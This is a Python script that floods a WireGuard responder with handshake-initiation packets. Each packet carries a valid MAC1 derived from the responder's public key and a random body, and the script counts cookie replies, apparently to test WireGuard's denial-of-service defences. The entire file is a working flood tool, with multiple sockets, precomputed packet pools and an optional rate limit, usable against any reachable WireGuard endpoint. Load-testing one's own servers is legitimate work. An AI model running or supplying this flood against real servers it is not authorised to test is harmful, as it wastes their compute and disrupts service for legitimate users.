#!/usr/bin/env python3
"""Handshake-initiation flood with a valid MAC1 (WireGuard paper §5.4.4: mac1 only needs the
responder's PUBLIC key), as a bad actor without any peer key would send it. The rest of the
message is random, so the responder can only spend work on it, never complete it.

usage: handshake_flood.py HOST PORT RESPONDER_PUBKEY_BASE64 SECONDS [SOCKETS [PPS]]
PPS: target send rate (0 or absent: as fast as python goes).
Prints "sent=N replies=M" (replies: cookie replies received, type 3)."""
import base64, hashlib, os, select, socket, sys, time

host, port, pub_b64, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
nsock = int(sys.argv[5]) if len(sys.argv) > 5 else 8
pps = float(sys.argv[6]) if len(sys.argv) > 6 else 0.0
pub = base64.b64decode(pub_b64)
mac1_key = hashlib.blake2s(b"mac1----" + pub).digest()

socks = []
for _ in range(nsock):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setblocking(False)
    s.connect((host, port))
    socks.append(s)

def initiation():
    body = b"\x01\x00\x00\x00" + os.urandom(4 + 32 + 48 + 28)  # type, sender, eph, static, ts
    mac1 = hashlib.blake2s(body, key=mac1_key, digest_size=16).digest()
    return body + mac1 + bytes(16)  # mac2 zero: no cookie

# A pool of precomputed messages keeps the send rate up (python is the bottleneck otherwise).
pool = [initiation() for _ in range(2048)]
sent = replies = 0
start = time.monotonic()
end = start + seconds
i = 0
while time.monotonic() < end:
    if pps > 0 and sent > (time.monotonic() - start) * pps:
        time.sleep(0.001)
        continue
    for s in socks:
        try:
            s.send(pool[i % len(pool)])
            sent += 1
        except (BlockingIOError, ConnectionRefusedError):
            pass
        i += 1
    if i % 256 == 0:
        r, _, _ = select.select(socks, [], [], 0)
        for s in r:
            try:
                while True:
                    d = s.recv(2048)
                    if d[:1] == b"\x03":
                        replies += 1
            except (BlockingIOError, ConnectionRefusedError):
                pass
print(f"sent={sent} replies={replies}")
